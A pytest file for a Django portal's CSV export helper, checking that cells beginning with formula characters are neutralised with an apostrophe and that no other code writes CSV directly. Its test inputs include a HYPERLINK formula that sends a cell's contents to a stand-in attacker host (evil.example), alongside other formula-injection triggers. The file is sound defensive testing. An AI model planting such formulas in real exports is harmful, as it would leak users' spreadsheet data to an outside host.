"""racop.csv_export: the one writer of the portal's CSV files (issue 19, finding 3)."""

import ast
import csv
import io
from pathlib import Path

import pytest
from django.conf import settings
from django.utils.translation import gettext_lazy
from hypothesis import given
from hypothesis import strategies as st

from racop.csv_export import Writer, cell, cell_text, csv_response

ROOT = Path(settings.BASE_DIR)
HELPER = ROOT / "racop" / "csv_export.py"
# Tooling outside the portal: benchmark and soak reports written on the developer's machine.
NOT_THE_PORTAL = {"bench", "reliability", "tests"}


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"x")',
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\n=1+1",
        "\uff1d1+1",
        "'=1+1",
    ],
)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert cell(text) == "'" + text
    assert cell_text(cell(text)) == text


@pytest.mark.parametrize(
    "value", ["Plain words", "Zagreb – Skopje", "", "'quoted", 3, -3, 2.5, None]
)
def test_everything_else_is_left_as_it_is(value):
    assert cell(value) == value


def test_translated_labels_are_text_too():
    assert cell(gettext_lazy("=label")) == "'=label"


@given(st.text())
def test_the_library_import_reads_back_exactly_what_was_exported(text):
    marked = cell(text)
    assert cell_text(marked) == text
    assert marked[:1] not in ("\t", "\r")
    assert marked.lstrip()[:1] not in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def test_every_cell_and_the_header_go_through_cell():
    out = io.StringIO()
    writer = Writer(out)
    writer.writerow(["=header", "ok"])
    writer.writerows([["-1", 2], ["@x", "y"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=header", "ok"],
        ["'-1", "2"],
        ["'@x", "y"],
    ]


def test_csv_response_is_a_named_utf8_download():
    response = csv_response("people.csv", ["name"], [["Ђорђе"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="people.csv"'
    assert response.content.decode("utf-8").splitlines() == ["name", "Ђорђе"]


def _writers_in(path):
    """Yield (line, what) for each use of the csv module's writers in a Python file."""
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in {"writer", "DictWriter"}
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            yield node.lineno, f"csv.{node.attr}"
        elif isinstance(node, ast.ImportFrom) and node.module == "csv":
            names = {alias.name for alias in node.names}
            if names & {"writer", "DictWriter", "*"}:
                yield node.lineno, f"from csv import {', '.join(sorted(names))}"


def test_no_csv_is_written_outside_the_helper():
    """Write CSV with racop.csv_export (csv_response, csv_download or Writer), never csv.writer."""
    found = []
    # The portal's packages (the folders holding an __init__.py) and the scripts beside them.
    packages = [top for top in ROOT.iterdir() if (top / "__init__.py").exists()]
    paths = [*ROOT.glob("*.py")]
    for package in packages:
        if package.name not in NOT_THE_PORTAL:
            paths += package.rglob("*.py")
    assert HELPER in paths
    for path in sorted(paths):
        if path.suffix == ".py" and path != HELPER:
            found += [
                f"{path.relative_to(ROOT)}:{line}: {what}" for line, what in _writers_in(path)
            ]
    assert found == []


def test_the_scan_sees_a_writer(tmp_path):
    sample = tmp_path / "sample.py"
    sample.write_text("import csv\nfrom csv import DictWriter\nw = csv.writer(out)\n")
    assert sorted(_writers_in(sample)) == [(2, "from csv import DictWriter"), (3, "csv.writer")]
